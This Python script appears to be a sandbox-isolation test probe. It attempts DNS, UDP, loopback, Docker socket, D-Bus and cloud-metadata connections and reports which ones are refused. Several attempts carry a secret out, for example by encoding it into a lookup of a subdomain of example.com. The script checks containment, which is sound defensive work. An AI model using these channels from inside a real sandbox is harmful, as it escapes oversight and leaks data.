"""Runs inside a sandbox: tries to reach somebody, and prints what came of it, a line each.

Arguments: a TCP and a UDP port and an abstract socket on which the host listens, an address of the host, and
what to carry out.
"""

# ruff: noqa: PTH123
from __future__ import annotations

import contextlib
import http.client
import os
import socket
import struct
import sys
import urllib.error
import urllib.request
from collections.abc import Callable

SECONDS = 2.0
_METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.168.65.2", "172.17.0.1")
_QUESTION = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"%b\x07example\x03com\x00\x00\x01\x00\x01"


def _connect(address: str, port: int) -> None:
    socket.create_connection((address, port), timeout=SECONDS).close()


def _send(address: str, port: int, content: bytes, kind: int = socket.AF_INET) -> None:
    with socket.socket(kind, socket.SOCK_DGRAM) as s:
        s.settimeout(SECONDS)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(content, (address, port))
        s.recv(100)


def _resolver() -> str:
    with contextlib.suppress(OSError), open("/etc/resolv.conf", encoding="ascii") as file:
        for line in file:
            if line.startswith("nameserver "):
                return line.split()[1]
    return "8.8.8.8"


def _unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(SECONDS)
        s.connect(path)


def _fetch(url: str) -> None:
    with contextlib.suppress(http.client.HTTPException):
        urllib.request.urlopen(url, timeout=SECONDS)


def attempts(tcp: int, udp: int, abstract: str, own: str, secret: str) -> dict[str, Callable[[], object]]:
    question = _QUESTION % (bytes([len(secret)]) + secret.encode())
    tried: dict[str, Callable[[], object]] = {
        "look-up": lambda: socket.getaddrinfo(f"{secret}.example.com", 80),
        "reverse-look-up": lambda: socket.gethostbyaddr("192.0.2.1"),
        "ask-the-resolver": lambda: _send(_resolver(), 53, question),
        "ask-the-resolver-over-tcp": lambda: _connect(_resolver(), 53),
        "multicast-names": lambda: _send("224.0.0.251", 5353, question),
        "multicast-names-6": lambda: _send("ff02::fb", 5353, question, socket.AF_INET6),
        "broadcast": lambda: _send("255.255.255.255", udp, b"x"),
        "host-by-tcp": lambda: _connect(own, tcp),
        "host-by-udp": lambda: _send(own, udp, secret.encode()),
        "loopback-of-the-host": lambda: _connect("127.0.0.1", tcp),
        "loopback-of-the-host-udp": lambda: _send("127.0.0.1", udp, secret.encode()),
        "any-address": lambda: _connect("0.0.0.0", tcp),
        "mapped-address": lambda: _connect("::ffff:127.0.0.1", tcp),
        "outside": lambda: _connect("192.0.2.1", 443),
        "outside-6": lambda: _connect("2001:db8::1", 443),
        "named-host": lambda: _connect("host.docker.internal", 80),
        "abstract-socket": lambda: _unix(f"\0{abstract}"),
        "engine": lambda: _unix("/var/run/docker.sock"),
        "engine-over-tcp": lambda: _connect("127.0.0.1", 2375),
        "system-bus": lambda: _unix("/run/dbus/system_bus_socket"),
        "proxy-of-the-environment": lambda: _fetch("http://192.0.2.1/"),
    }
    for address in _METADATA:
        tried[f"metadata-{address}"] = lambda address=address: _fetch(f"http://{address}/latest/meta-data/")
    return tried


def main() -> None:
    tcp, udp, abstract, own, secret = sys.argv[1:]
    for name, attempt in attempts(int(tcp), int(udp), abstract, own, secret).items():
        try:
            said = f"DID {attempt()!r}"
        except (OSError, urllib.error.URLError) as refused:
            said = f"REFUSED {type(refused).__name__} {refused}"
        print(name, said.replace("\n", " "), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
